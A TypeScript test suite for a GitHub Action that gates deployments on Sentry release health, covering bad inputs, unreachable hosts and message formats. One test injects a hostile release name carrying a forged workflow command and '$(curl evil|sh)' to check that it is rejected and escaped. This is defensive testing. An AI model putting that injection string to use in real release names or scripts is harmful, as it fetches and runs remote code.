import { createServer } from 'node:net';
import { describe, expect, it } from 'vitest';
import { getScenario, startLocalTracker } from '../../src/local-tracker';
import { gateFlags, runCli } from '../cli/run-cli';
import { startGitHubStub } from '../helpers/github-stub';
import { BAD_INPUTS } from './bad-input';
import { SENTRY_TOKEN, STACK_FRAME, gate, isSessions } from './harness';

const THROUGH_THE_ACTION = [
  'interval longer than window',
  'a day polled every second',
  'ftp sentry-url',
  'missing org',
  'window past the timer limit (700h)',
  'confidence 0.95% (0.0095)',
  'confidence 1e-9',
  'deployment id above 2^53',
  'release with a newline',
  'release with an ANSI escape',
  'release that is a workflow command',
  'environment with a control character',
  'rollback-ref with a newline',
  'rollback-ref that is a workflow command',
  'sentry-url with a query',
  'sentry-url of an organization page',
  'token with a newline',
];

/**
 * A loopback address and port nothing listens on: connecting is refused. 127.0.0.2, because
 * every server the tests start listens on 127.0.0.1 only, so no concurrent test can take the
 * port back between its close here and the action's first request.
 */
const REFUSING_HOST = '127.0.0.2';
async function closedPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, REFUSING_HOST, resolve));
  const { port } = server.address() as { port: number };
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

describe.concurrent('bad configuration through the bundled action', () => {
  it.each(BAD_INPUTS.filter((b) => THROUGH_THE_ACTION.includes(b.what)))(
    '$what: exit 1, one error annotation naming $input, no request, no stack trace',
    async ({ set, unset, input, allowed }) => {
      const inputs: Record<string, string> = { ...set };
      for (const name of unset ?? []) inputs[name] = '';
      const { run, tracker } = await gate('healthy', { inputs, env: { RUNNER_DEBUG: '1' } });
      expect(run.code).toBe(1);
      const errors = run.annotations.filter((a) => a.level === 'error');
      expect(errors).toHaveLength(1);
      expect(errors[0]!.message).toMatch(new RegExp(`^Input ${input}\\b`));
      expect(errors[0]!.message).toMatch(allowed);
      expect(errors[0]!.message.split('\n')).toHaveLength(1);
      expect(tracker.requests).toEqual([]);
      expect(run.stdout + run.stderr).not.toMatch(STACK_FRAME);
      expect(run.everything).not.toContain(SENTRY_TOKEN);
      expect(run.outputs).toEqual({});
    },
  );

  it('several bad inputs: still one error annotation, one line per input', async () => {
    const { run, tracker } = await gate('healthy', { inputs: { window: 'soon', confidence: '0', 'set-commits': 'never' } });
    expect(run.code).toBe(1);
    const errors = run.annotations.filter((a) => a.level === 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.message.split('\n').map((l) => l.split(/[ :(]/)[1])).toEqual(['set-commits', 'window', 'confidence']);
    expect(tracker.requests).toEqual([]);
  });
});

describe.concurrent('a sentry-url given as the API address (bundled action)', () => {
  // The context's onTestFinished: the global one, in a concurrent describe, can run another test's cleanup.
  it('a trailing /api/0/ is dropped: the release is registered and watched, not "organization not found"', async ({ onTestFinished }) => {
    const tracker = await startLocalTracker({ scenario: 'healthy', token: SENTRY_TOKEN, minuteMs: 1000 });
    onTestFinished(() => tracker.close());
    const { run } = await gate('healthy', { tracker, inputs: { 'sentry-url': `${tracker.url}/api/0/`, window: '4s' } });
    expect(
      run.annotations.filter((a) => a.level === 'error'),
      run.stdout,
    ).toEqual([]);
    expect(run.code).toBe(0);
    expect(['pass', 'inconclusive']).toContain(run.outputs.verdict);
    expect(run.outputs['release-url']).toMatch(new RegExp(`^${tracker.url.replace(/[.]/g, '\\.')}/organizations/acme/releases/`));
    expect(tracker.requests.every((r) => !r.path.includes('/api/0/api/0'))).toBe(true);
  });
});

describe.concurrent('durations past the timer limit (bundled action)', () => {
  it("window and interval of 700h: refused before any request, naming the maximum (they overflowed Node's timer and passed in seconds)", async () => {
    const { run, tracker } = await gate('healthy', { inputs: { window: '700h', interval: '700h' } });
    expect(run.code).toBe(1);
    const errors = run.annotations.filter((a) => a.level === 'error');
    expect(errors).toHaveLength(1);
    const lines = errors[0]!.message.split('\n');
    expect(lines).toEqual([
      expect.stringMatching(/^Input window \("700h"\): must be at most 24h/),
      expect.stringMatching(/^Input interval \("700h"\): must be at most 24h/),
    ]);
    expect(tracker.requests).toEqual([]);
    expect(run.outputs.verdict).toBeUndefined();
  });
});

/**
 * "At once, not after the window": the window is 10 min so the bound can be generous. Measured
 * alone the run takes 0.2 s; under full-suite load on 2 cores (two CPU hogs, ~25 runs at once)
 * start-up alone took up to 16 s, over the 15 s bound this had. 40 s is 2.5x that and still
 * 15x shorter than the window (and under the 45 s kill), so a run that watched would fail.
 * Speed is the benchmark's job; this only checks that nothing waits for the window.
 */
const AT_ONCE_MS = 40_000;
const LONG_WINDOW = '10m';

describe.concurrent('a sentry-url that cannot be reached (bundled action)', () => {
  it('connection refused on the very first request: exit 1 at once, one error naming sentry-url, no watch', async () => {
    const url = `http://${REFUSING_HOST}:${await closedPort()}`;
    const { run } = await gate('healthy', { inputs: { 'sentry-url': url, window: LONG_WINDOW, interval: '5s' } });
    expect(run.code, run.stdout).toBe(1);
    const errors = run.annotations.filter((a) => a.level === 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.message).toMatch(
      new RegExp(
        `^Input sentry-url \\("${url.replace(/[.]/g, '\\.')}"\\): Sentry could not be reached there \\(.*ECONNREFUSED.*\\): expected the base URL of Sentry such as https://sentry\\.io`,
      ),
    );
    expect(errors[0]!.message.split('\n')).toHaveLength(1);
    expect(run.stdout).not.toMatch(/Watch shop-web|watching health from now|poll skipped/);
    expect(run.outputs.verdict).toBeUndefined();
    expect(run.everything).not.toContain(SENTRY_TOKEN);
    expect(run.stdout + run.stderr).not.toMatch(STACK_FRAME);
    // No retries, no window (was the 5 s retry budget plus the whole window, then exit 0).
    expect(run.durationMs).toBeLessThan(AT_ONCE_MS);
  });

  it('register: false, refused: the first request (the deploy lookup) fails the same way', async () => {
    const url = `http://${REFUSING_HOST}:${await closedPort()}`;
    const { run } = await gate('healthy', { inputs: { 'sentry-url': url, register: 'false', window: LONG_WINDOW } });
    expect(run.code, run.stdout).toBe(1);
    expect(run.annotations.filter((a) => a.level === 'error').map((a) => a.message)).toEqual([expect.stringMatching(/^Input sentry-url .*ECONNREFUSED/)]);
    expect(run.durationMs).toBeLessThan(AT_ONCE_MS);
  });

  it('the CLI: exit 2 (configuration) with one line naming --sentry-url, before any watch', async () => {
    const url = `http://${REFUSING_HOST}:${await closedPort()}`;
    const run = await runCli(['gate', ...gateFlags(url), '--window', LONG_WINDOW], { SENTRY_AUTH_TOKEN: SENTRY_TOKEN });
    expect(run.code, run.stdout + run.stderr).toBe(2);
    expect(run.stderr.trim()).toMatch(
      /^--sentry-url \("http:\/\/127\.0\.0\.2:\d+"\): Sentry could not be reached there \(.*ECONNREFUSED.*\): expected the base URL of Sentry/,
    );
    expect(run.stderr.trim().split('\n')).toHaveLength(1);
    expect(run.stdout).not.toMatch(/poll skipped/);
    expect(run.durationMs).toBeLessThan(AT_ONCE_MS);
  });

  it('a tracker that answered once and then goes away is an outage: inconclusive, exit 0', async () => {
    const tracker = await startLocalTracker({ scenario: 'healthy', token: SENTRY_TOKEN, minuteMs: 1000 });
    // Closed the moment the first health poll arrives (after registration was answered): that poll is
    // cut, every later request is refused. Hooked on the request log, so no timer can be late.
    let closing: Promise<void> | null = null;
    const log = tracker.requests;
    const push = log.push.bind(log);
    log.push = (...entries) => {
      const n = push(...entries);
      if (!closing && entries.some(isSessions)) closing = tracker.close();
      return n;
    };
    const { run } = await gate('healthy', { tracker, inputs: { window: '6s' } });
    expect(closing).not.toBeNull();
    expect(run.code, run.stdout).toBe(0);
    expect(run.outputs.verdict).toBe('inconclusive');
    // The poll in flight at the close may see the socket cut instead; later ones are refused.
    expect(run.stdout).toMatch(/poll skipped: .*(ECONNREFUSED|socket|closed)/);
    expect(run.annotations.filter((a) => a.level === 'error')).toEqual([]);
  });
});

describe.concurrent('the previous release named by the tracker (bundled action)', () => {
  it('a name with a newline, "::" and shell characters is not used nor dispatched: warned about, shown escaped', async ({ onTestFinished }) => {
    const hostile = 'shop-web@1.4.0\n::error::forged $(curl evil|sh)';
    const scenario = { ...getScenario('crash-spike'), previousRelease: { version: hostile, deployedMinutesBeforeStart: 180 } };
    const tracker = await startLocalTracker({ scenario, token: SENTRY_TOKEN, minuteMs: 1000 });
    onTestFinished(() => tracker.close());
    // Random-looking, as real tokens are: any 8 characters of a secret are redacted wherever they appear.
    const token = 'ghs_Q7vXk2PzR9mWc4TnL8bYd3HsJ6fG1aE5uK0o';
    const stub = await startGitHubStub({ token, repository: 'acme/shop', workflows: ['rollback.yml'], defaultBranch: 'main' });
    onTestFinished(() => stub.close());
    const { run, report } = await gate('crash-spike', {
      tracker,
      inputs: { 'rollback-workflow': 'rollback.yml', 'github-token': token },
      env: { GITHUB_API_URL: stub.url },
    });
    expect(run.code, run.stdout).toBe(1);
    expect(run.outputs.verdict).toBe('fail');
    const warning = run.annotations.find((a) => a.level === 'warning' && a.message.startsWith('Ignoring the previous release'));
    expect(warning?.message).toBe(
      'Ignoring the previous release Sentry reports, "shop-web@1.4.0\\u{a}:\\u{3a}error:\\u{3a}forged $(curl evil|sh)": it contains control or invisible characters: ' +
        'expected a release name of at most 200 characters without spaces, slashes, backslashes, control characters, "::" or shell characters ($ ` ; | & < > \' " ! * ? ( ) { } [ ]), not ".", ".." or "latest". Going on with no previous release.',
    );
    expect(run.stdout).not.toMatch(/^::error::forged/m);
    expect(run.everything).not.toContain('curl evil|sh)"\n');
    expect(run.outputs['previous-release']).toBe('');
    expect(report!.links.previousReleaseName).toBeNull();
    const dispatched = stub.requests.filter((r) => r.method === 'POST' && r.path.endsWith('/dispatches'));
    expect(dispatched).toHaveLength(1);
    expect((dispatched[0]!.body as { inputs: Record<string, string> }).inputs['previous-release']).toBe('');
    expect(JSON.stringify(stub.requests.map((r) => r.body))).not.toContain('curl evil');
  });
});

describe.concurrent('messages (bundled action)', () => {
  it('a 500 on creating the release does not say "register it first" when register was true', async () => {
    const { run } = await gate('healthy', {
      inputs: { window: '4s' },
      before: (t) => t.faults.add({ path: /\/releases\/$/, method: 'POST', status: 500, times: Infinity }),
    });
    expect(run.code, run.stdout).toBe(1);
    const errors = run.annotations.filter((a) => a.level === 'error').map((a) => a.message);
    expect(errors).toHaveLength(1);
    expect(errors[0]).not.toMatch(/register it first|register: true/);
    expect(errors[0]).toMatch(/^Sentry has no release "shop-web@2\.0\.0": registering it failed \(POST .*HTTP 500.*\)/);
  });

  it('poll lines never read past the window, even when the last poll starts late', async () => {
    const { run } = await gate('healthy', {
      inputs: { window: '4s', interval: '1s', 'initial-delay': '1s' },
      // Each health query takes 2.5 s: the window-end poll starts well after the window is over.
      before: (t) => t.faults.add({ path: '/sessions/', delayMs: 2_500, times: Infinity }),
    });
    const clocks = [...run.stdout.matchAll(/^\[(\d\d):(\d\d)\/(\d\d):(\d\d)\]/gm)].map((m) => ({
      at: Number(m[1]) * 60 + Number(m[2]),
      window: Number(m[3]) * 60 + Number(m[4]),
    }));
    expect(clocks.length, run.stdout).toBeGreaterThanOrEqual(2);
    for (const c of clocks) expect(c.at, run.stdout).toBeLessThanOrEqual(c.window);
  });

  it('the alert shows when the rate first crossed the limit as Started, and the decision on its own line', async () => {
    // Healthy for 8 scenario minutes (seconds here), then 5% of sessions crash: the rate crosses the limit some polls before the gate is sure.
    const { run, report } = await gate('slow-burn', { inputs: { window: '20s', interval: '1s', 'initial-delay': '1s' } });
    expect(run.outputs.verdict, run.stdout).toBe('fail');
    const started = run.summary.match(/^Started: +(.*)$/m)?.[1];
    const decided = run.summary.match(/^Decided: +(.*)$/m)?.[1];
    expect(started, run.summary).toMatch(/after deploy \((first poll over the limit|start of the second half, over the limit on its own); deploy finished /);
    expect(decided).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\dZ, .* after deploy$/);
    // Started is the first poll of the run over the limit that ended in the fail.
    const { check, decidedAt } = report!.verdict;
    let onset: string | null = null;
    for (const p of report!.polls) {
      if (!p.sample || p.at! > decidedAt!) continue;
      const over = p.evaluations.some((e) => e.check === check && e.project === null && e.observedBadRate !== null && e.observedBadRate > e.maxBadRate!);
      onset = over ? (onset ?? p.at) : null;
    }
    expect(onset, JSON.stringify(report!.polls.map((p) => p.evaluations))).not.toBeNull();
    expect(Date.parse(onset!)).toBeLessThan(Date.parse(decidedAt!));
    expect(started!.startsWith(`${onset!.slice(0, 16)}Z`)).toBe(true);
  });
});
